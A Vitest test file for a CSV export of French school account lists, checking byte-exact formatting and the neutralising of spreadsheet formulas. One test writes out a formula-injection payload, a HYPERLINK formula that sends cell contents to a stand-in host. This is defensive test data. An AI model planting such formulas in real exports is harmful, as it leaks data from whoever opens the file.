/** The CSV of guide §5.4: the guide's bytes for ordinary names, and no spreadsheet formula ever. */
import { describe, expect, it } from 'vitest';
import { accountListCsv, type AccountListRow } from '@/lib/accounts/account-list';

const row = (over: Partial<AccountListRow>): AccountListRow => ({
  uai: '0311556Y',
  ecole: 'E.M.PU-LE RAMIER-ac-TOULOUSE',
  nomEleve: "'DXERNAD",
  prenomEleve: 'Bilal',
  niveau: 'Moyenne section',
  classe: 'Classe 5 -MS - Mme DARTHOUT Emmanuelle',
  nomResponsable: 'COSAMS',
  prenomResponsable: 'Abdelkader',
  identifiant: 'a.cosams',
  motDePasse: '63MW8K3N',
  ...over,
});

const lines = (csv: string) => csv.slice(1).split('\r\n');

describe('liste des comptes au format CSV', () => {
  it('reproduit le guide : BOM, en-tête, « ; », CRLF, apostrophes et traits d’union tels quels', () => {
    const csv = accountListCsv([
      row({}),
      row({ nomResponsable: 'EUOZAALM', prenomResponsable: 'Khadija', motDePasse: '' }),
    ]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(lines(csv)).toEqual([
      "RNE;Ecole;Nom de l'élève;Prénom de l'élève;Niveau de l'élève;Classe de l'élève;" +
        'Nom du responsable;Prénom du responsable;Identifiant;Mot de passe',
      "0311556Y;E.M.PU-LE RAMIER-ac-TOULOUSE;'DXERNAD;Bilal;Moyenne section;" +
        'Classe 5 -MS - Mme DARTHOUT Emmanuelle;COSAMS;Abdelkader;a.cosams;63MW8K3N',
      "0311556Y;E.M.PU-LE RAMIER-ac-TOULOUSE;'DXERNAD;Bilal;Moyenne section;" +
        'Classe 5 -MS - Mme DARTHOUT Emmanuelle;EUOZAALM;Khadija;a.cosams;',
      '',
    ]);
  });

  it('garde Jean-Pierre, Marie-Ève et D’ARTAGNAN intacts', () => {
    const csv = accountListCsv([
      row({ nomEleve: "D'ARTAGNAN", prenomEleve: 'Jean-Pierre', prenomResponsable: 'Marie-Ève' }),
    ]);
    expect(lines(csv)[1]).toContain(";D'ARTAGNAN;Jean-Pierre;");
    expect(lines(csv)[1]).toContain(';Marie-Ève;');
  });

  it('neutralise ce qui commencerait une formule (=, +, -, @, tabulation, retour chariot)', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const name = `${start}HYPERLINK("http://x.example/?"&A1,"clic")`;
      const csv = accountListCsv([row({ nomResponsable: name })]);
      const body = csv.split('\r\n').slice(1).join('\r\n');
      // The cell starts with a quote, so no spreadsheet evaluates it.
      expect(body, JSON.stringify(start)).toMatch(/;"?'[=+\-@\t\r]HYPERLINK/);
      expect(body).not.toMatch(/;"?[=+\-@\t\r]HYPERLINK/);
    }
  });
});
